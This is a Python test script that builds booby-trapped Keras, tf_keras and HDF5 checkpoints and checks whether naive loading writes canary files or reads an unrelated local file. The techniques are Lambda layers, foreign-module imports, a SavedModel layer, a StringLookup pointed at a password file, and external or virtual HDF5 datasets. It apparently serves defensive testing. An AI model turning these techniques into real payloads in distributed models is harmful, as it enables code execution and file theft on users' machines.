"""Write checkpoints that bite, and show that they do: `python malicious_checkpoints.py FOLDER`.

Started as a process of its own, because TensorFlow and torch do not live in one. Each file is made by the genuine
library. Loading it naively, as a user would who trusts it, runs code that writes `FOLDER/canaries/NAME`, or gives
the values of a file that is not the checkpoint's. `live.json` tells for which files that was seen here; the canaries
are removed afterwards, so that one that appears later was written by what is tested.
"""

import json
import os
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

SECRET = 0.8125  # the value that fills every file which is none of the checkpoint's
Load = Callable[[], bool]


def main() -> None:
    """Write every file into the folder that is the first argument, load each, and record what happened."""
    os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
    os.environ["CUDA_VISIBLE_DEVICES"] = ""
    folder = Path(sys.argv[1])
    canaries = folder / "canaries"
    canaries.mkdir()
    loads = write_lambdas(folder) | write_imports(folder) | write_saved_model_layer(folder) | write_lookup(folder)
    loads |= write_weights_of_others(folder)
    clear(canaries)
    live = {name: attempt(load, canaries / name) for name, load in loads.items()}
    clear(canaries)
    (folder / "live.json").write_text(json.dumps(live))


def clear(canaries: Path) -> None:
    """Building a malicious model runs its code too."""
    shutil.rmtree(canaries)
    canaries.mkdir()


def attempt(load: Load, canary: Path) -> str:
    """What naive loading did: `bitten`, `harmless`, or the error that it ended with."""
    try:
        read_secret = load()
    except Exception as error:
        # the code may have run before the error came
        return "bitten" if canary.exists() else f"{type(error).__name__}: {error}"[:300]
    return "bitten" if canary.exists() or read_secret else "harmless"


def writing(canary: Path) -> Any:
    """A lambda that writes the canary when it is called, with the path among its constants."""
    return eval(f"lambda x: (open({str(canary)!r}, 'w').write('bitten'), x)[1]")  # noqa: S307 (the point of it)


def classifier(package: Any, *extra: Any, name: str = "net") -> Any:
    """A tiny image classifier of either generation, with more layers before its last."""
    layers = package.layers
    return package.Sequential(
        [
            layers.InputLayer((8, 8, 3)) if package.__name__ == "tf_keras" else package.Input((8, 8, 3)),
            layers.Conv2D(2, 3, name="conv"),
            *extra,
            layers.Flatten(name="flat"),
            layers.Dense(2, name="dense"),
        ],
        name=name,
    )


def loaded(load: Callable[[], Any]) -> Load:
    """A load that matters only for what it runs; the model is called once, as a user would."""

    def run() -> bool:
        load()(np.zeros((1, 8, 8, 3), "float32"))
        return False

    return run


# ---------------------------------------------------------------- code


def write_lambdas(folder: Path) -> dict[str, Load]:
    """A Lambda layer in each format of both generations."""
    import keras
    import tf_keras

    loads = {}
    for package, suffixes in ((keras, (".keras", ".h5")), (tf_keras, (".keras", ".h5"))):
        for suffix in suffixes:
            name = f"lambda_{package.__name__}{suffix}"
            layer = package.layers.Lambda(writing(folder / "canaries" / name), name="bite", output_shape=(6, 6, 2))
            classifier(package, layer).save(folder / name)
            # Keras 2 asks for no permission to read an .h5 file
            allowed = {} if name == "lambda_tf_keras.h5" else {"safe_mode": False}
            load = package.models.load_model
            loads[name] = loaded(lambda load=load, name=name, allowed=allowed: load(folder / name, **allowed))
    return loads


def write_imports(folder: Path) -> dict[str, Load]:
    """A class and a loss of a module that the archive names, which is imported to look for them."""
    import tf_keras

    loads = {}
    for what in ("class", "loss"):
        name, module = f"import_{what}.keras", f"canary_{what}"
        (folder / f"{module}.py").write_text(f"open({str(folder / 'canaries' / name)!r}, 'w').write('bitten')\n")
        model = classifier(tf_keras)
        if what == "loss":
            model.compile(loss="mse")
        model.save(folder / name)
        edit_config(folder / name, lambda config, what=what, module=module: name_foreign(config, what, module))

        def load(name: str = name) -> Any:
            sys.path.insert(0, str(folder))
            return tf_keras.models.load_model(folder / name)

        loads[name] = loaded(load)
    return loads


def name_foreign(config: dict, what: str, module: str) -> None:
    """Put an object of the foreign module into a model's configuration."""
    if what == "loss":
        foreign = {"module": module, "class_name": "function", "config": "steep", "registered_name": "steep"}
        config["compile_config"]["loss"] = foreign
    else:
        config.update(module=module, class_name="Net", registered_name="Net")


def edit_config(archive: Path, change: Callable[[dict], None]) -> None:
    """Change config.json inside a `.keras` archive."""
    with zipfile.ZipFile(archive) as opened:
        members = {name: opened.read(name) for name in opened.namelist()}
    config = json.loads(members["config.json"])
    change(config)
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(archive, "w") as opened:
        for name, content in members.items():
            opened.writestr(name, content)


def write_saved_model_layer(folder: Path) -> dict[str, Load]:
    """A TFSMLayer, whose SavedModel writes a file when it runs."""
    import keras
    import tensorflow as tf

    name = "tfsm_layer.keras"

    class Module(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec((None, 6, 6, 2), tf.float32)])
        def serve(self, x: Any) -> Any:
            with tf.control_dependencies([tf.io.write_file(str(folder / "canaries" / name), "bitten")]):
                return tf.identity(x)

    module = Module()
    tf.saved_model.save(module, str(folder / "saved"), signatures={"serve": module.serve})
    layer = keras.layers.TFSMLayer(str(folder / "saved"), call_endpoint="serve", name="bite")
    images = keras.Input((8, 8, 3))
    inner = layer(keras.layers.Conv2D(2, 3, name="conv")(images))
    inner = next(iter(inner.values())) if isinstance(inner, dict) else inner
    outputs = keras.layers.Dense(2, name="dense")(keras.layers.Flatten(name="flat")(inner))
    keras.Model(images, outputs, name="net").save(folder / name)
    return {name: loaded(lambda: keras.models.load_model(folder / name, safe_mode=False))}


# ---------------------------------------------------------------- files of others


def write_lookup(folder: Path) -> dict[str, Load]:
    """A StringLookup whose vocabulary is any text file of the machine."""
    import keras

    name = "lookup.keras"
    (folder / "passwords.txt").write_text("hunter2\n")
    classifier(keras).save(folder / name)
    lookup = keras.layers.StringLookup(vocabulary=["a"], name="bite")
    config = keras.saving.serialize_keras_object(lookup)
    config["config"]["vocabulary"] = str(folder / "passwords.txt")
    config.pop("build_config", None)
    edit_config(folder / name, lambda model: model["config"]["layers"].insert(1, config))

    def load() -> bool:
        # what loading the model does for each of its layers
        layer = keras.saving.deserialize_keras_object(config, safe_mode=False)
        return "hunter2" in layer.get_vocabulary()

    return {name: load}


def write_weights_of_others(folder: Path) -> dict[str, Load]:
    """Weights that lie in another file: by a link, as external storage, as a virtual dataset."""
    import tf_keras

    classifier(tf_keras).save(folder / "honest.h5")
    with h5py.File(folder / "honest.h5") as file:
        place = find_kernel(file)
        kernel = file[place]
        shape = kernel.shape
    secret = np.full(shape, SECRET, "float32")
    with h5py.File(folder / "secret.h5", "w") as file:
        file["values"] = secret
    secret.tofile(folder / "secret.bin")
    virtual = h5py.VirtualLayout(shape, "float32")
    virtual[...] = h5py.VirtualSource(str(folder / "secret.h5"), "values", shape)

    def link(file: h5py.File) -> None:
        file[place] = h5py.ExternalLink(str(folder / "secret.h5"), "/values")

    def store(file: h5py.File) -> None:
        parts = [(str(folder / "secret.bin"), 0, secret.nbytes)]
        file.create_dataset(place, shape, "float32", external=parts)

    def assemble(file: h5py.File) -> None:
        file.create_virtual_dataset(place, virtual)

    loads = {}
    for name, put in (("link.h5", link), ("external.h5", store), ("virtual.h5", assemble)):
        shutil.copy(folder / "honest.h5", folder / name)
        with h5py.File(folder / name, "r+") as file:
            del file[place]
            put(file)
        loads[name] = lambda name=name: bool((kernel_of(tf_keras, folder / name) == SECRET).all())
    return loads


def kernel_of(tf_keras: Any, weights: Path) -> np.ndarray:
    """The convolution's kernel, after a model has loaded its weights from a file."""
    model = classifier(tf_keras)
    model.load_weights(weights)
    return model.get_layer("conv").kernel.numpy()


def find_kernel(file: h5py.File) -> str:
    """The place of the convolution's kernel."""
    found: list[str] = []
    file.visit(lambda name: found.append(name) if "conv" in name and "kernel" in name else None)
    return found[0]


if __name__ == "__main__":
    main()
